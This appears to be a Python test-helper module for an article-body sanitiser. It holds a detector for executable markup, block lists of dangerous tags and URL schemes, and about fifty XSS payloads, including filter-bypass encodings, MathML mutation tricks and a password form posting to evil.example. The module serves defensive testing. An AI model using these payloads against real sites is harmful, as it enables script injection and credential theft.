"""Helpers for the rendering tests, shared with the end-to-end sanitising tests in
tests/publishing/test_body_sanitising.py: `HOSTILE_BODIES`, hostile Markdown and HTML each
with the harmless words that must survive it, and `executable_markup()`, which lists
everything in a fragment that could run script or change the page.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import NamedTuple

OPENING = "The ferry timetable changes on Monday."
CLOSING = "Councillors vote on the harbour budget in March."

# Tags that can run code, load other documents, restyle or redirect the page, or take input.
DANGEROUS_TAGS = frozenset(
    {
        "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed",
        "applet", "form", "input", "button", "textarea", "select", "base", "meta", "link",
        "details", "template", "noscript",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "data", "poster", "background", "srcset"}
)
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
RAW_DANGEROUS_TAG = re.compile(
    r"<\s*/?\s*(script|style|svg|math|iframe|object|embed|form|input|base|meta|link)\b", re.I
)


class _Inspector(HTMLParser):
    """Lists every executable or page-altering thing in an HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{name} event attribute on <{tag}>")
            if name == "srcdoc":
                self.problems.append(f"srcdoc on <{tag}>")
            if name in URL_ATTRIBUTES and _browser_url(value).startswith(BAD_SCHEMES):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and not (
                tag in {"td", "th"} and re.fullmatch(r"text-align:(left|center|right)", value)
            ):
                self.problems.append(f"style={value!r} on <{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def _browser_url(value: str) -> str:
    # What a browser makes of an attribute's URL: outer spaces and controls dropped, tabs
    # and newlines removed anywhere, scheme compared case-insensitively.
    stripped = value.strip("".join(chr(c) for c in range(0x21)))
    return re.sub(r"[\t\n\r]", "", stripped).lower()


def executable_markup(fragment: str) -> list[str]:
    """Everything in `fragment` that could run script or change the page; [] when safe."""
    inspector = _Inspector()
    inspector.feed(fragment)
    inspector.close()
    problems = inspector.problems
    problems += [f"raw {m.group(0)!r}" for m in RAW_DANGEROUS_TAG.finditer(fragment)]
    return problems


class Hostile(NamedTuple):
    payload: str
    # Harmless words that must still be in the output (beyond OPENING, always checked).
    survivors: tuple[str, ...] = (CLOSING,)


def _link(payload: str) -> Hostile:
    # The link goes; the words the editor linked stay readable.
    return Hostile(payload, survivors=("tide tables", CLOSING))


def _wrapping(payload: str) -> Hostile:
    return Hostile(payload, survivors=("moorings", CLOSING))


def body_around(payload: str) -> str:
    return f"{OPENING}\n\n{payload}\n\n{CLOSING}"


_SVG_DATA = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
_HTML_DATA = "PHA+ZmFrZSBsb2dpbjwvcD48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+"

HOSTILE_BODIES: dict[str, Hostile] = {
    "script element": Hostile("<script>alert(1)</script>"),
    "img onerror": Hostile("<img src=x onerror=alert(1)>"),
    "a javascript href": _link('<a href="javascript:alert(1)">tide tables</a>'),
    "mixed-case scheme": _link('<a href="JaVaScRiPt:alert(1)">tide tables</a>'),
    "mixed-case Markdown link": _link("[tide tables](JaVaScRiPt:alert(1))"),
    "tab entity inside scheme": _link('<a href="java&#x09;script:alert(1)">tide tables</a>'),
    "decimal entity for j": _link('<a href="&#106;avascript:alert(1)">tide tables</a>'),
    "named entity colon": _link('<a href="javascript&colon;alert(1)">tide tables</a>'),
    "whitespace-prefixed scheme": _link('<a href=" javascript:alert(1)">tide tables</a>'),
    "newline-prefixed scheme": _link('<a href="&#10;javascript:alert(1)">tide tables</a>'),
    "Markdown link": _link("Read the [tide tables](javascript:alert(1)) first."),
    "Markdown link with spaces": _link("Read the [tide tables](  javascript:alert(1)) first."),
    "Markdown link in angle brackets": _link("[tide tables](<javascript:alert(1)>)"),
    "Markdown image javascript": Hostile("![a gull](javascript:alert(1))"),
    "Markdown image svg data": Hostile(f"![a gull](data:image/svg+xml;base64,{_SVG_DATA})"),
    "Markdown image png data": Hostile("![a gull](data:image/png;base64,iVBORw0KGgo=)"),
    "autolink javascript": Hostile("<javascript:alert(1)>"),
    "reference definition": _link("See the [tide tables][t].\n\n[t]: javascript:alert(1)"),
    "reference definition with title": _link(
        'See the [tide tables][t].\n\n[t]: <javascript:alert(1)> "Tides"'
    ),
    "reference image definition": Hostile("![a gull][g]\n\n[g]: data:text/html;base64,AAAA"),
    "svg onload": Hostile("<svg onload=alert(1)>"),
    "script inside svg": Hostile("<svg><script>alert(1)</script></svg>"),
    # The unclosed <style> swallows everything after it, in browsers as in the sanitiser,
    # so only the opening paragraph can survive.
    "MathML namespace confusion": Hostile(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", survivors=()
    ),
    "MathML namespace confusion, closed": Hostile(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>"
    ),
    "MathML comment trick": Hostile(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',
        survivors=(),
    ),
    "iframe": Hostile('<iframe src="https://evil.example"></iframe>'),
    "iframe srcdoc": Hostile('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "object": Hostile('<object data="https://evil.example/movie.swf"></object>'),
    "embed": Hostile('<embed src="https://evil.example/movie.swf">'),
    "form and input": Hostile(
        '<form action="https://evil.example/collect"><input name="password"></form>'
    ),
    "div with javascript in style": _wrapping(
        '<div style="background:url(javascript:alert(1))">moorings</div>'
    ),
    "paragraph style": _wrapping('<p style="position:fixed;top:0">moorings</p>'),
    "table cell with extra style": _wrapping(
        '<table><tr><td style="text-align:left;background:url(javascript:alert(1))">'
        "moorings</td></tr></table>"
    ),
    "a data href": _link(f'<a href="data:text/html;base64,{_HTML_DATA}">tide tables</a>'),
    "a vbscript href": _link('<a href="vbscript:msgbox(1)">tide tables</a>'),
    "Markdown vbscript link": _link("[tide tables](vbscript:msgbox(1))"),
    "blockquote cite javascript": _wrapping(
        '<blockquote cite="javascript:alert(1)">moorings</blockquote>'
    ),
    "attribute breaking, inline": _link(
        "<a href='x' title=\"a\"onmouseover=alert(1)>tide tables</a>"
    ),
    "attribute breaking, in an HTML block": _link(
        "<div>\n<a href='x' title=\"a\"onmouseover=alert(1)>tide tables</a>\n</div>"
    ),
    "details ontoggle": _wrapping("<details open ontoggle=alert(1)>moorings</details>"),
    "noscript attribute trick": Hostile(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    "xmp raw text": Hostile("<xmp><img src=x onerror=alert(1)></xmp>"),
    "textarea raw text": Hostile("<textarea><img src=x onerror=alert(1)></textarea>"),
    "template content": Hostile("<template><img src=x onerror=alert(1)></template>"),
    "img srcset": Hostile('<img srcset="javascript:alert(1) 1x" src="/m/a.png">'),
    "video onerror": _wrapping("<video src=x onerror=alert(1)>moorings</video>"),
    "HTML comment": Hostile("<!-- <script>alert(1)</script> -->"),
    "base href": Hostile('<base href="https://evil.example/">'),
    "meta refresh": Hostile('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    "link import": Hostile('<link rel="import" href="https://evil.example/x.html">'),
}
